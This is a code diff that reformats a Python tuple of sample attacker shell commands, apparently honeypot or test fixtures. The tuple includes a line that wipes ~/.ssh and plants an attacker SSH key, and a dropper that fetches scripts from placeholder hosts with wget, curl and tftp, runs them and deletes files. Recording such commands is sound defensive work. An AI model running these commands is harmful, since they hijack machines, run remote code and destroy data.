@@ -114,13 +114,13 @@ COMMANDS = (
     "echo -e '\\x6F\\x6B{n}'",
     "cd ~; chattr -ia .ssh; lockr -ia .ssh",
     (
-        'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA{n}DJk3lhr4KUhBGE7VvAc key">>.ssh/'
-        "authorized_keys && chmod -R go= ~/.ssh && cd ~"
+        'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEA{n}DJk3lhr4KUhBGE7 key">>'
+        ".ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~"
     ),
     (
-        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.{n}/a.sh; curl -O http://203.0.113.{n}/"
-        "a.sh; chmod 777 a.sh; sh a.sh; tftp 203.0.113.{n} -c get a.sh; chmod 777 a.sh; sh a.sh; tftp -r b.sh -g "
-        "203.0.113.{n}; chmod 777 b.sh; sh b.sh; rm -rf *"
+        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://203.0.113.{n}/a.sh; curl -O "
+        "http://203.0.113.{n}/a.sh; chmod 777 a.sh; sh a.sh; tftp 203.0.113.{n} -c get a.sh; chmod 777 a.sh; sh a.sh; tftp "
+        "-r b.sh -g 203.0.113.{n}; chmod 777 b.sh; sh b.sh; rm -rf *"
     ),
 )
 """Lines as attackers type them; ``{n}`` is a number that differs from event to event."""
